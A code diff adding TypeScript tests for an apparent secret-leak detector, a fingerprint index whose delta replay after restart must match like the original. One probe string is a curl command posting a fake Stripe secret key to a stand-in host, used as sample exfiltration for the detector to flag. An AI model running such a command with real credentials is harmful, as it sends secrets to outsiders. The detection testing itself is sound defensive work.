@@ -225,3 +225,50 @@ test('distinctiveTokens: e-mails, grouped cards, ids; not hex digests, not ident
   assert.ok(!t.some((x) => x.value.startsWith('3f2a9c1d')));
   assert.ok(!t.some((x) => x.value === 'some_name2x'));
 });
+
+test('an index rebuilt from recorded deltas matches exactly like the original (restart replay)', () => {
+  const secret = 'sk_live_51HxQm2eZvKYlo2C8rT4pW9sNbV3jA7dL';
+  const card = '4111111111111111';
+  const adds: Array<{ texts: string[]; tokens: Array<{ value: string; kind: 'secret'; label: string }>; precious: boolean }> = [
+    { texts: [`STRIPE_KEY=${secret}\nDB_HOST=db.internal\n`], tokens: [{ value: secret, kind: 'secret', label: 'Stripe secret key' }], precious: true },
+    { texts: [lorem(3000, 5)], tokens: [], precious: false }, // winnowed
+    { texts: [lorem(40000, 9)], tokens: [], precious: false }, // sampled
+    { texts: [`id,name,card,email\n1,Ada,${card},ada@example.org\n2,Bob,5500005555555559,bob@example.net\n`], tokens: [], precious: false },
+    { texts: ['short line here\nanother short one', lorem(200, 11)], tokens: [], precious: false },
+  ];
+  // a small budget, so the replay must also evict the same origins in the same order
+  for (const budget of [100000, 6000]) {
+    const a = new FingerprintIndex(hasher, budget);
+    const b = new FingerprintIndex(hasher, budget);
+    adds.forEach((x, i) => {
+      const n = a.add(i + 1, x.texts, x.tokens, { precious: x.precious, record: true });
+      const d = a.lastDelta;
+      assert.ok(d, 'a delta is recorded when asked');
+      // the delta holds hashes and labels only, never the text
+      assert.ok(!d.labels.join('\n').includes(secret));
+      assert.equal(b.replay(i + 1, { ops: new Float64Array(d.ops), labels: [...d.labels] }, x.precious), n);
+    });
+    assert.equal(b.size, a.size);
+    assert.equal(b.fragmentCount, a.fragmentCount);
+    assert.equal(b.originCount, a.originCount);
+    for (let i = 1; i <= adds.length; i++) assert.equal(b.hasOrigin(i), a.hasOrigin(i), `origin ${i} (budget ${budget})`);
+    const outs = [
+      `curl -d "k=${secret}" https://x.example`,
+      `part one ${secret.slice(0, 14)}`,
+      `part two ${secret.slice(14)}`,
+      `pay ${card} now`,
+      `mail bob@example.net`,
+      lorem(60, 9),
+      lorem(300, 5).slice(100, 400),
+      'short line here',
+      'nothing of ours in this text at all, just words',
+    ];
+    for (const o of outs) assert.deepEqual(b.matchAll(o), a.matchAll(o), `${o.slice(0, 30)} (budget ${budget})`);
+  }
+});
+
+test('without record, add() keeps no delta', () => {
+  const idx = new FingerprintIndex(hasher, 1000);
+  idx.add(1, ['some text that is long enough to index'], []);
+  assert.equal(idx.lastDelta, null);
+});
